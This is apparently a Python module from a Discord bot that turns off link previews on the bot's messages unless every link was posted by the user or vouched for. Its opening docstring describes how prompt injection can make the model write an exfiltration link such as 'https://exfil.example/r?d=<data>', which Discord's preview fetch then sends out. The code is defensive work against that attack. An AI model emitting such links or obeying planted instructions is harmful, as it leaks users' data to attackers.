"""Everything the bot posts goes through here, with link previews off unless every link in it
is one the user posted in that conversation or one the bot vouches for.

The model is an attacker's puppet: a planted instruction can make it write
``https://exfil.example/r?d=<data>``, and Discord fetches a link to build its preview the moment
the message is posted or edited, before anyone reads it. So every send and edit carries
SUPPRESS_EMBEDS unless ``LinkPolicy.previews`` says all its links are safe to fetch. Replies
never fail on a question deleted meanwhile (``fail_if_not_exists=False``).
"""

from __future__ import annotations

import re
import unicodedata
from collections import OrderedDict
from collections.abc import Callable, Iterable
from typing import Any, Protocol, cast

import discord

# A link as Discord finds one (any scheme: letters, digits, "+.-" before "://"), up to what
# ends it in Markdown: whitespace, angle brackets, a spoiler's bars, code ticks, quotes;
# trailing punctuation is not part of it.
_URL_BODY = re.compile(r"[^\s<>|`\"]*[^\s<>|`\".,:;'!?)\]*_~]")
# A link as Discord's own autolink finds one: up to whitespace or "<" only, so a quote, a bar,
# a backtick, ">" or a full-width look-alike after a user's link makes it a longer link that
# carries whatever follows. Both readings, of the text as written and of its plain form, must
# find only links the user posted.
_AUTOLINK_BODY = re.compile(r"[^\s<]*[^\s<.,:;'!?\")\]*_~|>]")
# A scheme is the run of scheme characters before "://", from its first letter. Runs are
# matched whole from their start (possessively), so a long word costs one pass, not one per
# letter (a pattern starting at any letter took 0.8 s on 4,000 letters, on the event loop).
_SCHEME_RUN = re.compile(r"(?<![a-z0-9+.\-])[a-z0-9+.\-]++://", re.IGNORECASE)
_LETTER = re.compile(r"[a-z]", re.IGNORECASE)
# What is left once the links are taken out must not look like one either (a link Discord
# might still find, an invite, which Discord previews without a scheme).
_LINKISH = re.compile(r":/|:\\|discord(?:app)?\.com/invite|discord\.gg/", re.IGNORECASE)
CONVERSATIONS_KEPT = 10_000  # conversations whose users' links are remembered
LINKS_PER_CONVERSATION = 200


def _plain(text: str) -> str:
    """NFKC, without format characters: a link hidden by a zero-width space or written in
    full-width letters is found too."""
    text = unicodedata.normalize("NFKC", text)
    return "".join(c for c in text if unicodedata.category(c) != "Cf")


def _spans(text: str, body: re.Pattern[str]) -> list[tuple[int, int]]:
    """Where the links of ``text`` are, in one pass: each "://" with a scheme before it and
    a ``body`` after it."""
    spans: list[tuple[int, int]] = []
    pos = 0
    while (run := _SCHEME_RUN.search(text, pos)) is not None:
        letter = _LETTER.search(text, run.start(), run.end())
        tail = body.match(text, run.end())
        if letter is None or tail is None:
            pos = run.end()
            continue
        spans.append((letter.start(), tail.end()))
        pos = tail.end()
    return spans


def _found(text: str, body: re.Pattern[str] = _URL_BODY) -> list[str]:
    return [text[a:b] for a, b in _spans(text, body)]


def links_in(text: str) -> set[str]:
    """The links in ``text`` (bare, spoilered, masked, in angle brackets, in code)."""
    return set(_found(_plain(text)))


def _every_reading(text: str) -> set[str]:
    """The links in ``text`` as Markdown's delimiters end them and as Discord's autolink
    does, in the text as written and in its plain form."""
    found: set[str] = set()
    for form in (text, _plain(text)):
        found |= set(_found(form)) | set(_found(form, _AUTOLINK_BODY))
    return found


def _without_links(text: str) -> str:
    """``text`` with each link replaced by a space."""
    kept, pos = [], 0
    for a, b in _spans(text, _URL_BODY):
        kept.append(text[pos:a])
        pos = b
    return " ".join([*kept, text[pos:]])


def link_scope(user: str, conversation: str) -> str:
    """Whose links a message may preview: one user's in one conversation (in a thread
    several users share the conversation, not their links)."""
    return f"{user} in {conversation}"


class LinkPolicy:
    """Which links may be previewed: those a user posted in the conversation (remembered
    in this process, bounded; forgotten on restart, which only turns previews off) and those
    ``allow`` vouches for (the bot's own signed links, when there are some)."""

    def __init__(self, *, allow: Callable[[str], bool] = lambda url: False) -> None:
        self.allow = allow
        self._posted: OrderedDict[str, set[str]] = OrderedDict()

    def remember(self, conversation: str, text: str) -> None:
        """Note the links a user posted in ``conversation``."""
        found = _every_reading(text)
        if not found:
            return
        known = self._posted.setdefault(conversation, set())
        self._posted.move_to_end(conversation)
        known |= set(list(found)[: max(0, LINKS_PER_CONVERSATION - len(known))])
        while len(self._posted) > CONVERSATIONS_KEPT:
            self._posted.popitem(last=False)

    def previews(self, texts: Iterable[str | None], conversation: str | None = None) -> bool:
        """True only when the texts hold links and each is the user's or allowed; nothing
        else in them may look like a link."""
        written = "\n".join(t for t in texts if t)
        text = _plain(written)
        found = _every_reading(written)
        if not found:
            return False
        posted = self._posted.get(conversation, set()) if conversation else set()
        if not all(url in posted or self.allow(url) for url in found):
            return False
        return not _LINKISH.search(_without_links(text))


class _Posting(Protocol):
    links: LinkPolicy


def links_of(client: discord.Client) -> LinkPolicy:
    """The bot's link policy (a client without one previews nothing)."""
    return getattr(cast(_Posting, client), "links", None) or LinkPolicy()


def _embed_texts(embeds: Iterable[discord.Embed]) -> list[str]:
    """Every text and address of the embeds: their links count as the message's."""
    texts: list[str] = []
    for embed in embeds:
        texts += [str(v) for v in _walk(embed.to_dict())]
    return texts


def _walk(value: Any) -> Iterable[Any]:
    if isinstance(value, dict):
        for item in value.values():
            yield from _walk(item)
    elif isinstance(value, list):
        for item in value:
            yield from _walk(item)
    else:
        yield value


def _embeds(options: dict[str, Any]) -> list[discord.Embed]:
    embeds = list(options.get("embeds") or [])
    if options.get("embed") is not None:
        embeds.append(options["embed"])
    return embeds


def _files(options: dict[str, Any]) -> list[str]:
    files = list(options.get("files") or [])
    if options.get("file") is not None:
        files.append(options["file"])
    return [f.filename or "" for f in files]


def suppressed(
    links: LinkPolicy, content: str | None, options: dict[str, Any], conversation: str | None
) -> bool:
    """Whether a message of this content (and these embeds and file names) goes out with
    previews off."""
    texts = [content, *_embed_texts(_embeds(options)), *_files(options)]
    return not links.previews(texts, conversation)


async def send(
    channel: discord.abc.Messageable,
    content: str | None = None,
    *,
    links: LinkPolicy,
    conversation: str | None = None,
    reply_to: discord.Message | None = None,
    **options: Any,
) -> discord.Message:
    """Post a message (a reply to ``reply_to`` that survives its deletion)."""
    if reply_to is not None:
        options["reference"] = reply_to.to_reference(fail_if_not_exists=False)
        options.setdefault("mention_author", False)
    quiet = suppressed(links, content, options, conversation)
    return await channel.send(content, suppress_embeds=quiet, **options)


async def reply(
    message: discord.Message,
    content: str | None = None,
    *,
    links: LinkPolicy,
    conversation: str | None = None,
    **options: Any,
) -> discord.Message:
    """Answer ``message`` in its channel, as a reply while it exists."""
    return await send(
        message.channel,
        content,
        links=links,
        conversation=conversation,
        reply_to=message,
        **options,
    )


async def edit(
    message: discord.Message,
    *,
    links: LinkPolicy,
    conversation: str | None = None,
    **options: Any,
) -> discord.Message:
    """Edit a posted message (``message`` as last edited: its content is what stays when
    none is given); previews are decided again on what it will show. Always explicit:
    discord.py's ``edit`` turns previews back on unless told."""
    content = options.get("content", message.content)
    kept = {"embeds": options.get("embeds", message.embeds)}
    quiet = suppressed(links, content, kept, conversation)
    return await message.edit(suppress=quiet, **options)


async def respond(
    interaction: discord.Interaction, content: str | None = None, **options: Any
) -> None:
    """Answer an interaction (its response, or a followup once it was answered or deferred);
    private unless ``ephemeral=False``."""
    options.setdefault("ephemeral", True)
    quiet = suppressed(links_of(interaction.client), content, options, None)
    if interaction.response.is_done():
        await interaction.followup.send(content or "", suppress_embeds=quiet, **options)
    else:
        await interaction.response.send_message(content, suppress_embeds=quiet, **options)


async def update(interaction: discord.Interaction, **options: Any) -> None:
    """Edit the message a component belongs to, as the interaction's response."""
    message = interaction.message
    content = options.get("content", message.content if message else None)
    quiet = suppressed(links_of(interaction.client), content, options, None)
    await interaction.response.edit_message(suppress_embeds=quiet, **options)
